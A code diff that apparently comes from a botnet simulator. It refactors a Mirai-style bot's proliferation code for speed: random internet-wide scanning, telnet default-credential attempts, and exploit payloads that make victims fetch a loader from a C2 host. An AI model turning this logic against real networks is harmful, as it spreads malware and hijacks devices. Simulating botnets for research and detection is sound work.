@@ -61,7 +61,7 @@ class NetworkAdapter(TypingProtocol):
     def dns_lookup(self, name: str, trace: Capture | None = None) -> int | None: ...
 
 
-@dataclass
+@dataclass(slots=True)
 class ScanHit:
     """One completed proliferation interaction (victim engaged)."""
 
@@ -83,6 +83,12 @@ class Bot:
         self._bot_id = bytes(
             rng.choice(b"abcdefghijklmnopqrstuvwxyz") for _ in range(8)
         )
+        # scan-path caches: the port list, the per-port armed exploits,
+        # and built payloads are pure functions of the (immutable) config,
+        # so they are computed once per bot instead of once per target
+        self._scan_ports: list[int] | None = None
+        self._armed_by_port: dict[int, list[Vulnerability]] | None = None
+        self._payload_cache: dict[object, bytes] = {}
 
     # -- C2 interaction -------------------------------------------------------
 
@@ -186,24 +192,48 @@ class Bot:
 
     # -- proliferation ----------------------------------------------------------
 
-    def scan_targets(self, count: int) -> list[tuple[int, int]]:
-        """Pick ``count`` random (ip, port) scan targets.
+    def scan_port_list(self) -> list[int]:
+        """The (cached) port mix this bot scans.
 
         Mirai-style bots always scan telnet; exploit-armed bots also scan
         each vulnerability's service port.
         """
-        ports = list(self.config.scan_ports) or list(TELNET_PORTS)
-        for index in self.config.exploit_ids:
-            vuln = EXPLOIT_INDEX.get(index)
-            if vuln is not None and vuln.port not in ports:
-                ports.append(vuln.port)
+        ports = self._scan_ports
+        if ports is None:
+            ports = list(self.config.scan_ports) or list(TELNET_PORTS)
+            for index in self.config.exploit_ids:
+                vuln = EXPLOIT_INDEX.get(index)
+                if vuln is not None and vuln.port not in ports:
+                    ports.append(vuln.port)
+            self._scan_ports = ports
+        return ports
+
+    def scan_targets(self, count: int) -> list[tuple[int, int]]:
+        """Pick ``count`` random (ip, port) scan targets in one batch."""
+        ports = self.scan_port_list()
+        randrange = self.rng.randrange
+        choice = self.rng.choice
         targets: list[tuple[int, int]] = []
-        while len(targets) < count:
-            address = self.rng.randrange(0x01000000, 0xDF000000)
-            if is_reserved(address):
-                continue
-            targets.append((address, self.rng.choice(ports)))
+        append = targets.append
+        for _ in range(count):
+            # same draw order as the one-at-a-time loop: addresses are
+            # redrawn until one is routable, then the port is drawn
+            address = randrange(0x01000000, 0xDF000000)
+            while is_reserved(address):
+                address = randrange(0x01000000, 0xDF000000)
+            append((address, choice(ports)))
         return targets
+
+    def _armed_for_port(self, port: int) -> list[Vulnerability]:
+        table = self._armed_by_port
+        if table is None:
+            table = {}
+            for index in self.config.exploit_ids:
+                if index in EXPLOIT_INDEX:
+                    vuln = vulnerability_for_index(index)
+                    table.setdefault(vuln.port, []).append(vuln)
+            self._armed_by_port = table
+        return table.get(port, ())
 
     def attack_payload_for_port(self, port: int) -> tuple[bytes, Vulnerability | None]:
         """What the bot sends once a victim on ``port`` accepts.
@@ -211,22 +241,26 @@ class Bot:
         Telnet ports get a credential attempt; exploit ports get the
         exploit request for the (first) armed vulnerability on that port.
         """
+        cache = self._payload_cache
         if port in TELNET_PORTS:
             user, password = self.rng.choice(TELNET_CREDENTIALS)
-            return user + b"\r\n" + password + b"\r\n", None
-        armed = [
-            vulnerability_for_index(index)
-            for index in self.config.exploit_ids
-            if index in EXPLOIT_INDEX
-        ]
-        matching = [vuln for vuln in armed if vuln.port == port]
+            key = (user, password)
+            payload = cache.get(key)
+            if payload is None:
+                payload = cache[key] = user + b"\r\n" + password + b"\r\n"
+            return payload, None
+        matching = self._armed_for_port(port)
         if matching:
             # bots cycle through every exploit they carry for a service,
             # so victims on a shared port see each of them over time
             vuln = self.rng.choice(matching)
-            downloader = self.config.downloader or self.config.c2_host
-            loader = self.config.loader_name or "bot.sh"
-            return vuln.build_payload(downloader, loader), vuln
+            payload = cache.get(vuln.key)
+            if payload is None:
+                downloader = self.config.downloader or self.config.c2_host
+                loader = self.config.loader_name or "bot.sh"
+                payload = cache[vuln.key] = vuln.build_payload(
+                    downloader, loader)
+            return payload, vuln
         # scanning a port it has no exploit for: probe with a bare GET
         return b"GET / HTTP/1.0\r\n\r\n", None
 
@@ -235,15 +269,18 @@ class Bot:
     ) -> list[ScanHit]:
         """Scan ``count`` random targets, exploiting any that engage."""
         hits: list[ScanHit] = []
+        connect = adapter.tcp_connect
+        payload_for = self.attack_payload_for_port
+        append = hits.append
         for address, port in self.scan_targets(count):
-            session = adapter.tcp_connect(address, port, trace)
+            session = connect(address, port, trace)
             if session is None:
                 continue
-            payload, vuln = self.attack_payload_for_port(port)
+            payload, vuln = payload_for(port)
             session.send(payload)
             session.recv()
             session.close()
-            hits.append(ScanHit(address, port, payload, vuln))
+            append(ScanHit(address, port, payload, vuln))
         return hits
 
     # -- attacks -----------------------------------------------------------------
